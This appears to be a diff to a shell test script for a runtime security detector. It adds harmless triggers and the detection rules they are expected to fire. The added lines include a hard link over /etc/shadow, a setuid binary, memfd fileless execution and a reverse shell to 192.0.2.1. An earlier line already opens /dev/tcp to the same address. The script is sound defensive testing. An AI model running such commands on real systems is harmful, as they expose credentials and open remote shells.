@@ -60,7 +60,7 @@ restore_system() {
 	if [ -f "$TMP/dirs.created" ]; then
 		while read -r d; do rmdir "$d" 2>/dev/null; done <"$TMP/dirs.created"
 	fi
-	rm -f "/etc/$N.conf" "/etc/cron.d/$N" "/etc/systemd/system/$N.service" \
+	rm -f "/etc/$N.conf" "/etc/$N.lnk" "/etc/cron.d/$N" "/etc/systemd/system/$N.service" \
 		"/etc/profile.d/$N.sh" "/etc/audit/rules.d/$N.rules" \
 		"/var/log/$N.log" "/root/$N" "/root/.ssh/id_$T" \
 		/usr/local/bin/"$N" /usr/local/bin/"$N".moved "/dev/shm/$N"
@@ -95,6 +95,12 @@ cp /dev/null "/usr/local/bin/$N"
 mv "/usr/local/bin/$N" "/usr/local/bin/$N.moved"
 rm -f "/usr/local/bin/$N.moved"
 mkdir "/usr/local/bin/$N.d" && rmdir "/usr/local/bin/$N.d"
+# Links over sensitive files (a hard link needs the same file system: it
+# is made in /etc and removed at once); a setuid copy of a program.
+ln /etc/shadow "/etc/$N.lnk" && rm -f "/etc/$N.lnk"
+cp /bin/true "$TMP/suid" && chmod 4755 "$TMP/suid" && rm -f "$TMP/suid"
+# A program run from memory.
+"$TRIGGER" memfd-exec /bin/true
 # A system utility and a sensitive file: chmod to the mode they have.
 chmod "$(stat -c %a /usr/bin/true)" /usr/bin/true
 cp /dev/null "/etc/cron.d/$N"
@@ -123,7 +129,10 @@ unshare --net sh -c '
 	sleep 0.3
 	bash -c "exec 3<>/dev/tcp/192.0.2.1/4444; exec 3>&-"
 	"$TMP/bin/ls" connect 192.0.2.1 4445
-	kill %1 %2 2>/dev/null
+	busybox nc -l -p 4446 </dev/null >/dev/null 2>&1 &
+	sleep 0.3
+	"$TRIGGER" revshell 192.0.2.1 4446 /bin/sh -c "exit 0" </dev/null
+	kill %1 %2 %3 2>/dev/null
 	wait'
 # Execution from /dev/shm and /tmp.
 cp /bin/true "/dev/shm/$N" && "/dev/shm/$N"
@@ -213,7 +222,13 @@ expect "Modify system utility binary" fd.name=/usr/bin/true proc.name=chmod "$U"
 expect "Chmod or chown of sensitive file or binary" fd.name=/usr/bin/true proc.name=chmod "$U"
 expect "Chmod or chown of sensitive file or binary" "fd.name=/etc/cron.d/$N" proc.name=chmod "$U"
 expect "Change thread namespace" proc.name=nsenter evt.res=SUCCESS "$U"
-expect "Change namespace privileges via unshare" proc.name=unshare evt.arg.flags=0x10000000 "$U"
+expect "Create Symlink Over Sensitive Files" evt.arg.target=/etc/shadow "evt.arg.linkpath~shadow-link" proc.name=ln "$U"
+expect "Create Hardlink Over Sensitive Files" fd.name=/etc/shadow "evt.arg.newpath=/etc/$N.lnk" proc.name=ln "$U"
+expect "Set Setuid or Setgid bit" "fd.name=$TMP/suid" evt.arg.mode~S_ISUID proc.name=chmod "$U"
+expect "Fileless execution via memfd_create" "proc.exepath~/memfd:harrier-test" "$U"
+expect "Redirect STDOUT/STDIN to Network Connection on Host" proc.name=trigger fd.name=192.0.2.1:4446 evt.rawres=0 "$U"
+expect "Redirect STDOUT/STDIN to Network Connection on Host" proc.name=trigger evt.rawres=1 "$U"
+expect "Change namespace privileges via unshare" proc.name=unshare evt.arg.flags=CLONE_NEWUSER "$U"
 expect "Load kernel module" evt.type=finit_module proc.name=trigger "$U"
 expect "Load kernel module" evt.type=init_module proc.name=trigger "$U"
 expect "PTRACE attached to process" evt.arg.request=PTRACE_ATTACH proc.name=trigger "$U"
@@ -283,7 +298,8 @@ sha256sum $ACCOUNT_FILES 2>/dev/null | cmp -s - "$TMP/accounts.before" ||
 	fail "account files changed"
 for p in "/etc/$N.conf" "/etc/cron.d/$N" "/etc/systemd/system/$N.service" \
 	"/etc/profile.d/$N.sh" "/etc/audit/rules.d/$N.rules" "/var/log/$N.log" \
-	"/root/$N" "/usr/local/bin/$N.moved" "/dev/shm/$N" "/home/$N"; do
+	"/root/$N" "/usr/local/bin/$N.moved" "/dev/shm/$N" "/home/$N" \
+	"/etc/$N.lnk"; do
 	[ -e "$p" ] && fail "$p left behind"
 done
 [ "$(status rate_limit)" = "$ORIG_RATE" ] ||
